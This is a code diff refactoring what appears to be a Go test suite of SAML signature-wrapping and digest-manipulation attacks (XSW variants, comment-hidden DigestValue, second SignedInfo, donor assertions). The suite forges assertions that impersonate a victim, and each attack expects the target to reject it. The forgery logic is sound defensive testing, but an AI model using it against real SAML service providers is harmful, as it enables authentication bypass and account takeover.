@@ -216,11 +216,10 @@ func xswResponse(id, name, title string, v Victim, inside bool) Attack {
 			if err != nil {
 				return err
 			}
-			pristine := unsignedCopy(resp)
-			if err := impersonate(resp, v); err != nil {
+			pristine, err := turnEvil(resp, v, true)
+			if err != nil {
 				return err
 			}
-			resp.CreateAttr("ID", NewID())
 			if inside {
 				sig.AddChild(pristine)
 			} else {
@@ -275,11 +274,8 @@ func evilSibling(id, variant, title string, references []string, v Victim, befor
 			if _, err := ownSignature(as); err != nil {
 				return err
 			}
-			evil := unsignedCopy(as)
-			if freshID {
-				evil.CreateAttr("ID", NewID())
-			}
-			if err := impersonate(evil, v); err != nil {
+			evil, err := forgedCopy(as, v, freshID)
+			if err != nil {
 				return err
 			}
 			at := as.Index()
@@ -300,13 +296,8 @@ func XSW4(v Victim) Attack {
 		StillVerifies: []SignedPart{{Name: "the nested signed Assertion",
 			Element: "/samlp:Response/saml:Assertion/saml:Assertion", Signature: "/samlp:Response/saml:Assertion/saml:Assertion/ds:Signature"}},
 		Mutations: []Mutation{signWith(SignAssertion), afterSigning("XSW4", func(doc *etree.Document) error {
-			resp, as, err := responseParts(doc)
+			resp, as, evil, err := forgeAssertion(doc, v, true)
 			if err != nil {
-				return err
-			}
-			evil := unsignedCopy(as)
-			evil.CreateAttr("ID", NewID())
-			if err := impersonate(evil, v); err != nil {
 				return err
 			}
 			resp.RemoveChild(as)
@@ -350,20 +341,13 @@ func evilKeepsSignature(id, name, title, pristinePath string, v Victim, freshID 
 	return Attack{ID: id, Title: name + ": " + title, References: refs("SAMLRaider " + name), Oracle: OracleRejects,
 		StillVerifies: []SignedPart{{Name: "the pristine Assertion", Element: pristinePath, Signature: pathAssertion1Sig}},
 		Mutations: []Mutation{signWith(SignAssertion), afterSigning(name, func(doc *etree.Document) error {
-			resp, as, err := responseParts(doc)
+			resp, as, sig, err := signedAssertion(doc)
 			if err != nil {
 				return err
 			}
-			sig, err := ownSignature(as)
+			pristine, err := turnEvil(as, v, freshID)
 			if err != nil {
 				return err
-			}
-			pristine := unsignedCopy(as)
-			if err := impersonate(as, v); err != nil {
-				return err
-			}
-			if freshID {
-				as.CreateAttr("ID", NewID())
 			}
 			place(resp, sig, pristine)
 			return nil
@@ -384,12 +368,8 @@ func XSW7(v Victim, qualified bool) Attack {
 		References: refs("SAMLRaider XSW7", "GHSA-w553-pwx6-3mg9", "OneUptime #2949"), Oracle: OracleRejects,
 		StillVerifies: []SignedPart{{Name: "the signed Assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}},
 		Mutations: []Mutation{signWith(SignAssertion), afterSigning("XSW7-"+variant, func(doc *etree.Document) error {
-			resp, as, err := responseParts(doc)
+			resp, as, evil, err := forgeAssertion(doc, v, false)
 			if err != nil {
-				return err
-			}
-			evil := unsignedCopy(as)
-			if err := impersonate(evil, v); err != nil {
 				return err
 			}
 			ext := etree.NewElement(tag)
@@ -424,9 +404,8 @@ func TwoSignedAssertions(v Victim, idp *Identity) Attack {
 			if err != nil {
 				return err
 			}
-			second := unsignedCopy(as)
-			second.CreateAttr("ID", NewID())
-			if err := impersonate(second, v); err != nil {
+			second, err := forgedCopy(as, v, true)
+			if err != nil {
 				return err
 			}
 			resp.InsertChildAt(as.Index()+1, second)
@@ -444,13 +423,8 @@ func NestedAssertion(v Victim, where string) Attack {
 		References: []string{"OWASP SAML Security Cheat Sheet (absolute XPath)", "WS-Attacker"}, Oracle: OracleRejects,
 		StillVerifies: []SignedPart{{Name: "the signed Assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}},
 		Mutations: []Mutation{signWith(SignAssertion), afterSigning("nest-in-"+where, func(doc *etree.Document) error {
-			resp, as, err := responseParts(doc)
+			resp, _, evil, err := forgeAssertion(doc, v, true)
 			if err != nil {
-				return err
-			}
-			evil := unsignedCopy(as)
-			evil.CreateAttr("ID", NewID())
-			if err := impersonate(evil, v); err != nil {
 				return err
 			}
 			switch where {
@@ -603,11 +577,7 @@ func DigestValueComment(v Victim) Attack {
 		References: []string{"CVE-2025-29775"}, Oracle: OracleRejects,
 		StillVerifies: []SignedPart{{Name: "the SignatureValue over SignedInfo", Signature: pathAssertion1Sig, SignedInfoOnly: true}},
 		Mutations: []Mutation{signWith(SignAssertion), afterSigning("digest-in-comment", func(doc *etree.Document) error {
-			_, as, err := responseParts(doc)
-			if err != nil {
-				return err
-			}
-			sig, err := ownSignature(as)
+			_, as, sig, err := signedAssertion(doc)
 			if err != nil {
 				return err
 			}
@@ -615,16 +585,22 @@ func DigestValueComment(v Victim) Attack {
 			if dv == nil {
 				return errors.New("no ds:DigestValue")
 			}
-			if err := impersonate(as, v); err != nil {
-				return err
-			}
-			forged, err := referenceDigest(as)
+			forged, err := forgeInPlace(as, v)
 			if err != nil {
 				return err
 			}
 			dv.InsertChildAt(0, etree.NewComment(forged))
 			return nil
 		})}}
+}
+
+// forgeInPlace puts the victim into the signed assertion as and returns
+// the digest of the forgery.
+func forgeInPlace(as *etree.Element, v Victim) (string, error) {
+	if err := impersonate(as, v); err != nil {
+		return "", err
+	}
+	return referenceDigest(as)
 }
 
 // referenceDigest is the base64 SHA-256 digest of el under the enveloped
@@ -664,10 +640,7 @@ func EarlierDigestValue(v Victim) Attack {
 			if st == nil {
 				return errors.New("no samlp:Status")
 			}
-			if err := impersonate(as, v); err != nil {
-				return err
-			}
-			forged, err := referenceDigest(as)
+			forged, err := forgeInPlace(as, v)
 			if err != nil {
 				return err
 			}
@@ -712,9 +685,8 @@ func EmptyReferenceURI(v Victim, idp *Identity) Attack {
 				if err != nil {
 					return err
 				}
-				evil := unsignedCopy(resp)
-				evil.CreateAttr("ID", NewID())
-				if err := impersonate(evil, v); err != nil {
+				evil, err := forgedCopy(resp, v, true)
+				if err != nil {
 					return err
 				}
 				doc.RemoveChild(resp)
@@ -738,11 +710,7 @@ func SecondSignedInfo(v Victim) Attack {
 		References: []string{"CVE-2025-29774", "CVE-2026-33487"}, Oracle: OracleRejects,
 		StillVerifies: []SignedPart{{Name: "the SignatureValue over the first SignedInfo", Signature: pathAssertion1Sig, SignedInfoOnly: true}},
 		Mutations: []Mutation{signWith(SignAssertion), afterSigning("second-signedinfo", func(doc *etree.Document) error {
-			_, as, err := responseParts(doc)
-			if err != nil {
-				return err
-			}
-			sig, err := ownSignature(as)
+			_, as, sig, err := signedAssertion(doc)
 			if err != nil {
 				return err
 			}
@@ -751,10 +719,7 @@ func SecondSignedInfo(v Victim) Attack {
 			if si == nil || sv == nil {
 				return errors.New("signature without SignedInfo or SignatureValue")
 			}
-			if err := impersonate(as, v); err != nil {
-				return err
-			}
-			forged, err := referenceDigest(as)
+			forged, err := forgeInPlace(as, v)
 			if err != nil {
 				return err
 			}
@@ -785,13 +750,8 @@ func DonorAssertion(v Victim, sp SPInfo, otherSP string) Attack {
 				}
 			}),
 			afterSigning("forged-before-donor", func(doc *etree.Document) error {
-				resp, as, err := responseParts(doc)
+				resp, as, evil, err := forgeAssertion(doc, v, true)
 				if err != nil {
-					return err
-				}
-				evil := unsignedCopy(as)
-				evil.CreateAttr("ID", NewID())
-				if err := impersonate(evil, v); err != nil {
 					return err
 				}
 				for _, aud := range findAll(evil, nsAssertion, "Audience") {
